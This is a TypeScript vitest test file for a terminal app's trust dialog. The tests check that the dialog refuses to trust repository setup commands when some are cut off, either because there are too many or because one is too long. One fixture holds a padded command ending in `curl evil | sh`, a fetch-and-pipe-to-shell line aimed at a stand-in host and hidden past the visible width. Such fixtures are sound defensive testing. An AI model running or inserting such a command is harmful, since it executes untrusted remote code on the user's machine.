import { describe, expect, it, vi } from 'vitest';
import type { Controller } from '../../src/app/controller.js';
import type { TrustDialog } from '../../src/app/store.js';
import { CUT_REFUSAL, handleTrustKey, openTrust, type TrustOffer } from '../../src/app/trust-flow.js';
import type { Config } from '../../src/config/schema.js';
import type { RepoFileTrust } from '../../src/config/trust.js';
import type { KeyEvent } from '../../src/core/input.js';
import { makeAppStore } from '../helpers/ui-render.js';

const fileWith = (count: number, run = 'make setup'): RepoFileTrust => {
  const commands = Array.from({ length: count }, () => ({ key: 'setup.run', run }));
  return { path: '/r/.lanes.json', label: '.lanes.json', sha256: 'a'.repeat(64), commandsSha256: 'b'.repeat(64), commands, keys: ['setup.run'], ignored: [], isTrusted: false };
};

/** The trust dialog open in a terminal of `cols` x `rows`, and the offer's accept as a spy. */
const opened = (file: RepoFileTrust, cols: number, rows: number) => {
  const store = makeAppStore({ cols, rows });
  const setConfig = vi.fn();
  const controller = { store, setConfig, sync: vi.fn(async () => undefined) } as unknown as Controller;
  const accept = vi.fn(async () => ({}) as Config);
  const offer: TrustOffer = { file, line: 'the line', accept };
  openTrust(controller, offer);
  const press = (name: string): void => handleTrustKey(controller, offer, { name } as KeyEvent);
  const overlay = (): TrustDialog | undefined => {
    const current = store.getState().overlay;
    return current?.kind === 'trust' ? current : undefined;
  };
  return { press, accept, overlay };
};

describe('the trust dialog refuses t when it cannot show everything', () => {
  it('more commands than rows ("… and N more"): t records nothing and points to lanes trust', () => {
    const t = opened(fileWith(40), 100, 30);
    t.press('t');
    expect(t.accept).not.toHaveBeenCalled();
    expect(t.overlay()?.error).toBe(CUT_REFUSAL);
    expect(CUT_REFUSAL).toContain('lanes trust');
  });

  it('a command longer than the dialog is wide: t records nothing', () => {
    const t = opened(fileWith(1, `make ${'x'.repeat(200)} && curl evil | sh`), 100, 30);
    t.press('y');
    expect(t.accept).not.toHaveBeenCalled();
    expect(t.overlay()?.error).toBe(CUT_REFUSAL);
  });

  it('everything shown: t trusts', () => {
    const t = opened(fileWith(3), 100, 30);
    t.press('t');
    expect(t.accept).toHaveBeenCalledTimes(1);
  });
});
